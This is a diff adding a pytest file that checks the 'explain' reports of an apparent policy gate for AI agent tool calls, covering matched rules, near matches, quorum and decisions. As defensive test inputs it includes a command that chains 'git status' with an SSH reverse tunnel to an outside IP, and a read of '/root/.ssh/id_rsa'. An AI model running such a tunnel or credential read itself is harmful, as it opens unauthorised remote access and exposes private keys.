@@ -1,0 +1,86 @@
+"""``explain``: canonical form, capabilities with evidence, matched and nearly matched rules, decision."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+from gatekeeper.gate import load_policy_set
+from gatekeeper.models import Principal
+from gatekeeper.policy.explain import explain, render
+from gatekeeper.policy.lint import policy_files_in
+
+from . import PACK
+
+POLICY_SET = load_policy_set(policy_files_in(PACK))
+AGENT = Principal("alice", ("agent",), "gatekeeper-dev", 0.0)
+
+
+def _object(report: dict[str, Any], name: str) -> dict[str, Any]:
+    return next(o for o in report["objects"] if o["object"] == name)
+
+
+def test_reverse_tunnel_is_explained() -> None:
+    cmd = "git status && ssh -N -R 2222:localhost:22 u@203.0.113.7"
+    report = explain(POLICY_SET, AGENT, "shell.exec", {"cmd": cmd})
+    json.dumps(report)  # JSON-able
+    assert report["canonical"] == json.dumps(
+        {"arguments": {"cmd": cmd}, "tool": "shell.exec"}, separators=(",", ":"), sort_keys=True
+    )
+    assert len(report["digest"]) == 64
+    assert report["policy_version"] == POLICY_SET.version
+    caps = {c["name"]: c for c in report["capabilities"]}
+    assert "ssh -N -R" in caps["net.tunnel.reverse"]["evidence"]
+    tunnel = _object(report, "net.tunnel.reverse")
+    assert tunnel["effect"] == "deny"
+    (rule,) = tunnel["matched"]
+    assert rule["location"] == "policy.csv:7" and rule["decided"] is True and rule["condition_result"] is True
+    assert _object(report, "tool:shell.exec")["matched"][0]["location"] == "policy.csv:41"
+    ssh = _object(report, "proc.exec:ssh")
+    assert ssh["effect"] == "none" and ssh["matched"] == []
+    assert any(n["pattern"] == "proc.exec:git" and n["why"] == "other parameter" for n in ssh["near"])
+    assert report["decision"]["outcome"] == "deny"
+    assert report["decision"]["rule"] == "policy.csv:7"
+    assert report["budgets"] == []
+
+
+def test_condition_results_and_quorum() -> None:
+    report = explain(POLICY_SET, AGENT, "compute.provision", {"gpu_type": "H100", "count": 8, "hours": 72})
+    gpu = _object(report, "compute.gpu:H100")
+    assert gpu["amounts"] == {"gpus": 8.0, "gpu_hours": 576.0}
+    matched = {m["location"]: m for m in gpu["matched"]}
+    assert matched["policy.csv:36"]["quorum"] == 2 and matched["policy.csv:36"]["condition_result"] is True
+    near = {n["location"]: n for n in gpu["near"]}
+    assert near["policy.csv:108"]["why"] == "condition false"
+    assert near["policy.csv:108"]["condition_result"] is False
+    assert report["decision"]["outcome"] == "escalate" and report["decision"]["quorum"] == 2
+
+
+def test_another_subject_is_a_near_match() -> None:
+    nobody = Principal("bob", ("viewer",), "gatekeeper-dev", 0.0)
+    report = explain(POLICY_SET, nobody, "file.read", {"path": "README.md"})
+    tool = _object(report, "tool:file.read")
+    assert tool["matched"] == []
+    assert tool["near"][0]["why"] == "another subject (agent)"
+    assert report["decision"]["code"] == "not_allowed"
+
+
+def test_inherited_roles_are_shown() -> None:
+    researcher = Principal("r", ("researcher",), "gatekeeper-dev", 0.0)
+    report = explain(POLICY_SET, researcher, "file.read", {"path": "README.md"})
+    assert "agent" in report["principal"]["effective_roles"]
+    assert report["decision"]["outcome"] == "allow"
+
+
+def test_refused_before_policy() -> None:
+    report = explain(POLICY_SET, AGENT, "file.read", {"path": "x", "extra": 1})
+    assert report["decision"]["outcome"] == "error" and report["error"]["code"] == "invalid_arguments"
+    report = explain(POLICY_SET, AGENT, "no.such.tool", {})
+    assert report["decision"]["code"] == "unknown_tool"
+    assert "unknown_tool" in render(report)
+
+
+def test_render_marks_the_deciding_rule() -> None:
+    text = render(explain(POLICY_SET, AGENT, "file.read", {"path": "/root/.ssh/id_rsa"}))
+    assert "* policy.csv:17: deny cred.* for *" in text
+    assert text.splitlines()[-1].startswith("decision   deny (policy_denied) [policy.csv:17]")
